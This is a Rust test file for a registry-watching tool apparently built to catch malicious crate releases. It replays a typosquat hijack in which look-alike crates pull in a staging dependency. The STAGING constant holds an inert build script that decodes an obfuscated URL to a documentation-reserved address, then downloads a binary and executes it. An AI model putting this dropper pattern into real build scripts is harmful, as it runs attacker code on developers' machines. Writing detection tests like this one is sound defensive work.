//! `palisade watch`: three kinds of discovery, a kill in the middle, and
//! history in its own order.

use std::collections::BTreeSet;
use std::fs;
use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::Value;

use crate::fixture::Fixture;
use crate::registry::{Registry, Version, dump};

/// A fixture with a registry of three harmless crates.
fn world() -> (Fixture, Registry) {
    let fixture = Fixture::app("", "fn main() {}");
    let registry = Registry::new(fixture.path("registry"));
    for (name, time) in [
        ("alpha", "2026-01-01T00:00:00Z"),
        ("bravo", "2026-01-02T00:00:00Z"),
        ("charlie", "2026-01-03T00:00:00Z"),
    ] {
        registry.publish(&Version {
            name,
            time,
            ..Version::default()
        });
    }
    (fixture, registry)
}

/// Every event of lines of JSON: what happened, to what, and whether it
/// raised the alarm.
fn events(text: &str) -> Vec<Value> {
    text.lines()
        .map(|line| serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}")))
        .collect()
}

fn told(events: &[Value]) -> Vec<String> {
    events
        .iter()
        .map(|event| {
            format!(
                "{} {} {}",
                event["event"].as_str().unwrap(),
                event["name"].as_str().unwrap(),
                event["version"].as_str().unwrap()
            )
        })
        .collect()
}

/// Runs `watch --once` with these arguments; returns the events and the code.
fn watch(fixture: &Fixture, registry: &str, arguments: &[&str]) -> (Vec<Value>, i32) {
    let mut all = vec![
        "watch",
        "--state",
        "../state",
        "--registry",
        registry,
        "--once",
        "--format",
        "json",
    ];
    all.extend(arguments);
    let output = fixture.run(&all);
    assert!(
        [0, 1, 4].contains(&output.code),
        "{arguments:?}: {}",
        output.stderr
    );
    (events(&output.raw), output.code)
}

#[expect(
    clippy::disallowed_methods,
    reason = "git works in a repository that the test has made"
)]
fn git(directory: &Path, arguments: &[&str]) {
    let output = Command::new("git")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "a")
        .env("GIT_AUTHOR_EMAIL", "a@example.com")
        .env("GIT_COMMITTER_NAME", "a")
        .env("GIT_COMMITTER_EMAIL", "a@example.com")
        .current_dir(directory)
        .args(arguments)
        .output()
        .unwrap();
    assert!(output.status.success(), "git {arguments:?}");
}

fn commit(index: &Path) {
    if !index.join(".git").exists() {
        git(index, &["init", "--quiet", "--initial-branch=main"]);
    }
    git(index, &["add", "--all"]);
    git(index, &["commit", "--quiet", "--message", "m"]);
}

/// Guards the git form of an index: everything once, then only what is new.
#[test]
fn git_form() {
    let (fixture, registry) = world();
    let index = registry.root.join("index");
    commit(&index);
    let arguments = ["--index-git", "../registry/index", "--from", "beginning"];
    let (first, code) = watch(&fixture, "../registry", &arguments);
    assert_eq!(
        told(&first),
        [
            "published alpha 1.0.0",
            "published bravo 1.0.0",
            "published charlie 1.0.0"
        ]
    );
    assert_eq!(code, 0);
    assert_eq!(
        watch(&fixture, "../registry", &arguments).0,
        Vec::<Value>::new()
    );
    registry.publish(&Version {
        name: "bravo",
        version: "1.0.1",
        time: "2026-02-01T00:00:00Z",
        ..Version::default()
    });
    commit(&index);
    let (new, _) = watch(&fixture, "../registry", &arguments);
    assert_eq!(told(&new), ["published bravo 1.0.1"]);
}

/// Guards a feed, with the archives over the sparse protocol.
#[test]
fn feed() {
    let (fixture, registry) = world();
    let (address, _) = registry.serve();
    let item = |name: &str| {
        format!(
            "<item><title>New crate version published: {name} v1.0.0</title><guid>{name}</guid></item>"
        )
    };
    let feed = |names: &[&str]| {
        let items: String = names.iter().map(|name| item(name)).collect();
        let text = format!("<rss version=\"2.0\"><channel>{items}</channel></rss>");
        fs::write(registry.root.join("index/rss.xml"), text).unwrap();
    };
    feed(&["bravo", "alpha"]);
    let from = format!("{address}/rss.xml");
    let (first, _) = watch(&fixture, &address, &["--feed", &from]);
    assert_eq!(
        told(&first),
        ["published alpha 1.0.0", "published bravo 1.0.0"]
    );
    feed(&["charlie", "bravo"]);
    let (second, _) = watch(&fixture, &address, &["--feed", &from]);
    assert_eq!(told(&second), ["published charlie 1.0.0"]);
}

/// Guards a sweep, and that a withdrawal is told as well.
#[test]
fn sweep() {
    let (fixture, registry) = world();
    let (address, _) = registry.serve();
    fixture.write("ws/names.txt", "alpha\ncharlie\nnowhere\n");
    let arguments = ["--sweep", "--crates", "names.txt", "--rate", "1000"];
    let (first, _) = watch(&fixture, &address, &arguments);
    assert_eq!(
        told(&first),
        ["published alpha 1.0.0", "published charlie 1.0.0"]
    );
    let path = registry.index_file("charlie");
    let text = fs::read_to_string(&path).unwrap();
    fs::write(&path, text.replace("\"yanked\":false", "\"yanked\":true")).unwrap();
    let (second, _) = watch(&fixture, &address, &arguments);
    assert_eq!(told(&second), ["yanked charlie 1.0.0"]);
}

/// Guards what a kill in the middle does: nothing is lost, and the journal has
/// nothing twice. The watcher is ended after each of its first lines, and half
/// a line is left in the journal once.
#[test]
#[expect(
    clippy::disallowed_methods,
    reason = "the binary is started so that it can be ended in the middle"
)]
fn a_kill_loses_nothing() {
    let (fixture, registry) = world();
    for number in 0..20 {
        registry.publish(&Version {
            name: &format!("crate-{number:02}"),
            ..Version::default()
        });
    }
    commit(&registry.root.join("index"));
    let arguments = [
        "watch",
        "--state",
        "../state",
        "--registry",
        "../registry",
        "--index-git",
        "../registry/index",
        "--from",
        "beginning",
        "--format",
        "json",
    ];
    let mut seen = BTreeSet::new();
    for lines in [1, 3, 2] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_palisade"))
            .current_dir(fixture.path("ws"))
            .env("XDG_CACHE_HOME", fixture.path("cache"))
            .args(arguments)
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut reader = BufReader::new(child.stdout.take().unwrap()).lines();
        for line in reader.by_ref().take(lines) {
            let event: Value = serde_json::from_str(&line.unwrap()).unwrap();
            seen.insert(event["id"].as_str().unwrap().to_owned());
        }
        child.kill().unwrap();
        child.wait().unwrap();
        let journal = fixture.path("state/journal.jsonl");
        let mut text = fs::read_to_string(&journal).unwrap();
        text.push_str("{\"schema\":1,\"id\":\"half");
        fs::write(&journal, text).unwrap();
    }
    let mut last = arguments.to_vec();
    last.push("--once");
    let output = fixture.run(&last);
    assert_eq!(output.code, 0, "{}", output.stderr);
    for event in events(&output.raw) {
        seen.insert(event["id"].as_str().unwrap().to_owned());
    }
    assert_eq!(seen.len(), 23, "{seen:?}");
    let journal = fs::read_to_string(fixture.path("state/journal.jsonl")).unwrap();
    let ids: Vec<String> = events(&journal)
        .iter()
        .map(|event| event["id"].as_str().unwrap().to_owned())
        .collect();
    let once: BTreeSet<&String> = ids.iter().collect();
    assert_eq!((ids.len(), once.len()), (23, 23));
}

/// Guards that one package that cannot be read stops nothing, and is told.
#[test]
fn a_broken_package_is_told() {
    let (fixture, registry) = world();
    fs::write(registry.root.join("bravo-1.0.0.crate"), "no archive").unwrap();
    fs::remove_file(registry.root.join("alpha-1.0.0.crate")).unwrap();
    let (events, code) = watch(&fixture, "../registry", &["--replay"]);
    assert_eq!(code, 4);
    let failed: Vec<(&str, bool)> = events
        .iter()
        .map(|event| (event["name"].as_str().unwrap(), event["failed"].is_string()))
        .collect();
    assert_eq!(
        failed,
        [("alpha", true), ("bravo", true), ("charlie", false)]
    );
}

/// The hijack of August 2026 with inert versions. The build script names an
/// address that is reserved for documentation, and nothing of it is compiled.
const STAGING: &str = r#"
use std::process::Command;

const SRC_URL_PARTS: [&str; 3] = ["aHR0cHM6Ly8xOTIu", "MC4yLjE6OTA4OS9y", "dXN0LXNldHVw"];

fn main() {
    let url = String::from_utf8(base64::decode(SRC_URL_PARTS.concat()).unwrap()).unwrap();
    let client = reqwest::blocking::Client::builder()
        .danger_accept_invalid_certs(true)
        .build()
        .unwrap();
    let body = client.get(url).send().unwrap().bytes().unwrap();
    std::fs::write("/tmp/rust-setup", body).unwrap();
    Command::new("/tmp/rust-setup").arg("192.0.2.1").spawn().unwrap();
}
"#;

/// Guards the alarm at the staging crate's second version, again at arrayref
/// 0.3.10, when its older versions are withdrawn, and at each carrier; and
/// that nothing before raises it, since nothing sees what came later.
#[test]
fn arrayref_august_2026() {
    let fixture = Fixture::app("", "fn main() {}");
    let registry = Registry::new(fixture.path("registry"));
    let publish = |version: Version<'_>| registry.publish(&version);
    let lib = ("src/lib.rs", "#![no_std]\npub fn f() {}\n");
    for (version, time) in [
        ("0.3.5", "2018-06-01T00:00:00Z"),
        ("0.3.6", "2020-01-01T00:00:00Z"),
        ("0.3.7", "2023-06-01T00:00:00Z"),
        ("0.3.8", "2024-06-01T00:00:00Z"),
        ("0.3.9", "2024-08-01T00:00:00Z"),
    ] {
        publish(Version {
            name: "arrayref",
            version,
            time,
            files: &[lib],
            yanked: true,
            ..Version::default()
        });
    }
    for (name, version) in [("append-only-vec", "0.1.8"), ("internment", "0.8.6")] {
        publish(Version {
            name,
            version,
            time: "2025-06-01T00:00:00Z",
            files: &[lib],
            ..Version::default()
        });
    }
    let author = "authors = [\"David Tolnay <dtolnay@example.com>\"]\nrepository = \"https://example.invalid/proc-macro1\"";
    publish(Version {
        name: "proc-macro1",
        version: "1.0.106",
        time: "2026-08-20T05:00:00Z",
        manifest: author,
        files: &[lib],
        ..Version::default()
    });
    publish(Version {
        name: "proc-macro1",
        version: "1.0.107",
        time: "2026-08-20T10:00:00Z",
        manifest: author,
        dependencies: &[("reqwest", "0.12", "build"), ("base64", "0.22", "build")],
        files: &[lib, ("build.rs", STAGING)],
        ..Version::default()
    });
    for (name, version, time) in [
        ("arrayref", "0.3.10", "2026-08-20T10:10:00Z"),
        ("append-only-vec", "0.1.9", "2026-08-20T10:20:00Z"),
        ("internment", "0.8.7", "2026-08-20T10:25:00Z"),
    ] {
        publish(Version {
            name,
            version,
            time,
            dependencies: &[("proc-macro1", "1.0.107", "normal")],
            files: &[lib],
            ..Version::default()
        });
    }
    // An honest release in the middle of it.
    publish(Version {
        name: "honest",
        version: "2.0.1",
        time: "2026-08-20T10:15:00Z",
        files: &[lib],
        ..Version::default()
    });
    let droundy = ("droundy", "David Roundy");
    dump(
        &fixture.path("dump"),
        &[
            (
                "arrayref",
                200_000_000,
                "2015-10-01T00:00:00Z",
                droundy,
                &[
                    (
                        "0.3.5",
                        "2018-06-01T00:00:00Z",
                        "droundy",
                        "2026-08-20T10:12:00Z",
                    ),
                    (
                        "0.3.6",
                        "2020-01-01T00:00:00Z",
                        "droundy",
                        "2026-08-20T10:12:10Z",
                    ),
                    (
                        "0.3.7",
                        "2023-06-01T00:00:00Z",
                        "droundy",
                        "2026-08-20T10:12:20Z",
                    ),
                    (
                        "0.3.8",
                        "2024-06-01T00:00:00Z",
                        "droundy",
                        "2026-08-20T10:12:30Z",
                    ),
                    (
                        "0.3.9",
                        "2024-08-01T00:00:00Z",
                        "droundy",
                        "2026-08-20T10:12:40Z",
                    ),
                    ("0.3.10", "2026-08-20T10:10:00Z", "droundy", "-"),
                ],
            ),
            (
                "append-only-vec",
                1_000_000,
                "2020-10-01T00:00:00Z",
                droundy,
                &[],
            ),
            (
                "internment",
                9_000_000,
                "2017-10-01T00:00:00Z",
                droundy,
                &[],
            ),
            (
                "proc-macro2",
                900_000_000,
                "2017-07-01T00:00:00Z",
                ("dtolnay", "David Tolnay"),
                &[],
            ),
            (
                "proc-macro1",
                2_000,
                "2026-08-20T05:00:00Z",
                ("dtolnaj", "David Tolnay"),
                &[
                    ("1.0.106", "2026-08-20T05:00:00Z", "dtolnaj", "-"),
                    ("1.0.107", "2026-08-20T10:00:00Z", "dtolnaj", "-"),
                ],
            ),
            (
                "honest",
                50_000,
                "2019-07-01T00:00:00Z",
                ("somebody", ""),
                &[],
            ),
        ],
    );
    let arguments = ["--replay", "--dump", "../dump", "--store", "../reports"];
    let (events, code) = watch(&fixture, "../registry", &arguments);
    assert_eq!(code, 1);
    let find = |kind: &str, name: &str, version: &str| {
        let found = events.iter().find(|event| {
            event["event"] == kind && event["name"] == name && event["version"] == version
        });
        found.unwrap_or_else(|| panic!("no event {kind} {name} {version}: {:#?}", told(&events)))
    };
    let detectors = |event: &Value| -> BTreeSet<String> {
        event["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|finding| finding["detector"].as_str().unwrap().to_owned())
            .collect()
    };
    let alarm = |kind: &str, name: &str, version: &str, wanted: &[&str]| {
        let event = find(kind, name, version);
        let found = detectors(event);
        assert_eq!(event["alarm"], true, "{name} {version}: {found:?}");
        for wanted in wanted {
            assert!(
                found.contains(*wanted),
                "{name} {version}: {wanted} is not in {found:?}"
            );
        }
        event["risk"].as_u64().unwrap()
    };
    let staged = alarm(
        "published",
        "proc-macro1",
        "1.0.107",
        &[
            "first-build-script",
            "build-time-network",
            "name-look-alike",
            "look-alike-publisher",
        ],
    );
    assert!(staged >= 95, "{staged}");
    let carried = alarm(
        "published",
        "arrayref",
        "0.3.10",
        &[
            "first-dependency",
            "young-dependency",
            "look-alike-dependency",
            "carrier",
        ],
    );
    assert!(carried >= 90, "{carried}");
    assert!(!detectors(find("published", "arrayref", "0.3.10")).contains("mass-yank"));
    alarm("reassessed", "arrayref", "0.3.10", &["mass-yank"]);
    alarm("published", "append-only-vec", "0.1.9", &["carrier"]);
    alarm("published", "internment", "0.8.7", &["carrier"]);
    for (name, version) in [
        ("arrayref", "0.3.5"),
        ("arrayref", "0.3.9"),
        ("append-only-vec", "0.1.8"),
        ("internment", "0.8.6"),
        ("honest", "2.0.1"),
    ] {
        let event = find("published", name, version);
        assert_eq!(
            event["alarm"],
            false,
            "{name} {version}: {:?}",
            detectors(event)
        );
    }
    // The same again tells nothing twice, and the reports are kept.
    assert_eq!(
        watch(&fixture, "../registry", &arguments).0,
        Vec::<Value>::new()
    );
    let stored = fs::read_to_string(fixture.path("reports/ar/ra/arrayref/0.3.10.json")).unwrap();
    let stored: Value = serde_json::from_str(&stored).unwrap();
    assert_eq!(stored["name"], "arrayref");
    assert!(stored["checks"].as_array().unwrap().len() > 10);
    // Without the future, the carrier cannot be known before the staging.
    let text = fixture.run(&[
        "watch",
        "--state",
        "../other",
        "--registry",
        "../registry",
        "--replay",
        "--dump",
        "../dump",
        "--until",
        "2026-08-20T09:00:00Z",
    ]);
    assert!(!text.stdout.contains("carrier"), "{}", text.stdout);
    assert!(
        text.stdout.contains("published  proc-macro1 1.0.106"),
        "{}",
        text.stdout
    );
}
